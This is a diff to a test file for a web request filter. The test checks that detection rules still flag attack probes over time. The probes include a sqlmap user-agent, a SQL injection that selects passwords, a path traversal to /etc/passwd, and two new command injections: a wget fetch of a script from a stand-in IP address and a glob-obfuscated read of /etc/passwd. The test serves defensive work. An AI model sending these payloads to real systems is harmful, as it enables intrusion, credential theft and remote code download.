@@ -95,7 +95,7 @@ describe("one request after another", () => {
 });
 
 describe("tables outside the collected heap", () => {
-  it("finds what word lists find (tools, keywords, file names) after many collections", async () => {
+  it("finds what word lists and command tables find (tools, keywords, file names, commands) after many collections", async () => {
     const fresh = await loadFilter({ mode: "detect" });
     const rules = (spec: Parameters<typeof runRequest>[1]) => {
       const line = decisions(runRequest(fresh, spec).logs)[0];
@@ -105,6 +105,9 @@ describe("tables outside the collected heap", () => {
       { path: "/", authority: "svc.local", headers: [["user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"]] },
       { path: "/?id=" + encodeURIComponent("1 UNION SELECT username, password FROM users--"), authority: "svc.local" },
       { path: "/?f=" + encodeURIComponent("../../../../etc/passwd"), authority: "svc.local" },
+      // command words, and a glob that spells one
+      { path: "/?c=" + encodeURIComponent("x; wget http://203.0.113.9/a.sh"), authority: "svc.local" },
+      { path: "/?c=" + encodeURIComponent("x;/b?n/c?t /e?c/p?sswd"), authority: "svc.local" },
     ];
     const before = probes.map(rules);
     for (const r of before) expect(r.length).toBeGreaterThan(0);
